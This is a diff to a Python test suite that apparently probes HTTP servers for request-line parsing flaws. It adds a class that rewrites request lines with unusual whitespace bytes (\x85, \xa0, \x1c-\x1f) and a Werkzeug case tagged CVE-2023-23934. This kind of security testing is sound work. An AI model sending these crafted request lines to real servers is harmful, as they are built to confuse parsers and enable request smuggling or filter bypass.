@@ -153,6 +153,41 @@ class Puma(Case):
                    b"Upgrade: websocket\r\n\r\n", WAIT, *self.case.steps)
 
 
+class Line(Case):
+    """Request lines of servers that read them in Python, by its white space,
+    which has bytes that others take for a word's."""
+
+    def line(self, method=b"GET", before=b"", first=b" ", last=b" "):
+        "The exploit with another request line."
+        one, *more = self.case.steps
+        _, target, rest = one.split(b" ", 2)
+        self.assertTrue(rest.startswith(b"HTTP/1.1\r\n"))
+        self.trick(before + method + first + target + last + rest, *more)
+
+    def test_before(self):
+        "white space before the method"
+        for space in b"\x85", b"\xa0", b"\x1c", b"\x1d", b"\x1e", b"\x1f":
+            self.line(before=space)
+
+    def test_first(self):
+        "white space behind the method"
+        for space in b"\x85", b"\xa0", b"\x1c", b"\x1f":
+            self.line(first=space)
+
+    def test_last(self):
+        "white space before the version"
+        for space in b"\x85", b"\xa0", b"\x1c", b"\x1f":
+            self.line(last=space)
+
+    def test_all(self):
+        "white space everywhere"
+        self.line(before=b"\xa0", first=b"\xa0", last=b"\xa0")
+
+
+class Werkzeug(Line):
+    pair = "CVE-2023-23934"
+
+
 class RealTls(unittest.TestCase):
     """Servers of TLS on ports of protocols that are not: as if the port had
     been mistaken.  Nobody can look in there, but it works."""
@@ -230,7 +265,7 @@ class RealTls(unittest.TestCase):
         self.talk("ldap")
 
 
-del Case, Talk
+del Case, Talk, Line
 
 
 if __name__ == "__main__":
